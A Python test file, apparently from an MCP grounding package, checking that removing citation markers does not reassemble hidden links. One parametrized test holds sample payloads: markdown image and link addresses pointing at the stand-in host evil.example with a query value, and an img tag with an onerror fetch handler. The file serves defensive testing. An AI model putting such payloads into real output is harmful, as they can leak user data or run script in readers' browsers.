"""Clearing and verifying together: a marker that is taken out must not make a link of what was none."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lighton_mcp.clearing import clear_and_verify
from lighton_mcp.grounding import Passage

from ..reading import targets
from .test_links import ALLOWED, PASSAGE, PIECES

CLAIMS = st.sampled_from(
    ["The policy stands at the intranet", "Invoices are kept for 10 years", ". ", " [1]", " [2]", "[7]", "\n\n"]
)
PASSAGES = (Passage(1, PASSAGE), Passage(2, "Invoices are kept for 10 years."))
QUESTION = "Where does the policy stand?"


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.lists(st.one_of(PIECES, CLAIMS), max_size=14).map("".join))
def test_a_parser_finds_nothing_in_any_verified_answer(completion: str):
    """Whatever the model wrote, every target in the answer is one of a cited passage."""
    verified, _ = clear_and_verify(completion, PASSAGES, QUESTION)
    cited = {citation.n for citation in verified.citations}
    assert targets(verified.answer) <= (ALLOWED if 1 in cited else set()), verified.answer
    for sentence in (*verified.unsupported, verified.reason or ""):
        assert targets(sentence) <= ALLOWED, sentence


@pytest.mark.parametrize(
    "broken",
    [
        "ht[7]tps://evil.example/?q=10",
        "<[7]img src=x onerror=fetch(1)>",
        "![y] [8](https://evil.example/j?q=10)",
        "[x][8](https[9]://evil.example/i?q=10)",
    ],
)
def test_a_marker_inside_an_address_hides_nothing(broken: str):
    """What comes together when the marker goes is taken out as well, and the marker is still counted."""
    verified, removed = clear_and_verify(f"Invoices are kept for 10 years [2]. See {broken} now.", PASSAGES, QUESTION)
    assert targets(verified.answer) == set(), verified.answer
    assert removed + verified.removed > 0
